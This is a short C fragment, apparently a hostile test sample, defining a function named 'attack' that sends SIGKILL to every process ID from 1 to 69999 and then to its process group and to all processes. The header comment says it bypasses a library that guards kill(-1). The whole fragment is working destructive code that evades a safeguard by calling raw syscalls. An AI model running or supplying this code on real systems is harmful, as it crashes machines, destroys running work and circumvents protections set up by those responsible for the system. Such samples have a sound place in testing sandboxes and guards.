/* Kills every process that it can, bypassing the library that guards kill(-1). */
#include <sys/syscall.h>
static void attack(void)
{
    for (int pid = 1; pid < 70000; pid++)
        if (pid != getpid())
            syscall(SYS_kill, pid, SIGKILL);
    syscall(SYS_kill, 0, SIGKILL);
    syscall(SYS_kill, -1, SIGKILL);
}
